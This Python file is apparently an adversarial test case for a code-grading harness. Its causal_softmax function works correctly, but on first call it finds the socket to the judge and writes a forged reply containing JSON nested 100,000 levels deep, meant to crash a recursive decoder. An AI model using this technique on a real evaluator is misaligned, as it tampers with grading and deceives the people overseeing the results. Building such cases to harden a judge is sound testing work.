"""Attack: a forged reply nested 100,000 levels deep, written straight to the judge.

On its first call, causal_softmax finds its connection to the judge (the one socket among its file
descriptors) and writes a whole message to it, framed like the worker's own (8-byte big-endian
length, then JSON): '{"ok": true, "result": ' + '[' * 100000 + ']' * 100000 + '}', about
200 kB, well under any size limit, but deep enough that a recursive JSON decoder (Python's json
module) raises RecursionError rather than ValueError, and that any recursive walk of the decoded
value overflows. Then it returns the right weights as usual. The judge must reject it as a
malformed reply of this exercise: never crash, report a grading error or exit 2.

Honest points: ex5 20/20 at most — the weights are right; a judge that rejects the forged reply
(and the desynchronised ones after it) may take points off this exercise, never off another. Its
twin, twin-ex5-right, the same function writing nothing, gets 20/20.
"""
import os
import stat
import struct

import torch
from torch.nn import functional as F

_sent = [False]


def _judge_sockets():
    """The worker's connection to the judge: the socket file descriptors among 0..255."""
    found = []
    for fd in range(256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                found.append(fd)
        except OSError:
            pass
    return found


def _write(fd, data):
    view = memoryview(data)
    while view:
        view = view[os.write(fd, view):]


def _send_forged():
    for fd in _judge_sockets():
        try:
            _write(fd, FORGED)
        except OSError:
            pass


def causal_softmax(scores):
    if not _sent[0]:  # once: the judge reads this as the reply to its request
        _sent[0] = True
        _send_forged()
    T = scores.shape[-1]
    future = torch.triu(torch.ones(T, T, dtype=torch.bool), diagonal=1)  # (T, T)
    weights = scores.masked_fill(future, float("-inf"))  # the future → −∞
    return F.softmax(weights, dim=-1)  # (B, T, T)


_PAYLOAD = b'{"ok": true, "result": ' + b"[" * 100000 + b"]" * 100000 + b"}"
FORGED = struct.pack("!Q", len(_PAYLOAD)) + _PAYLOAD
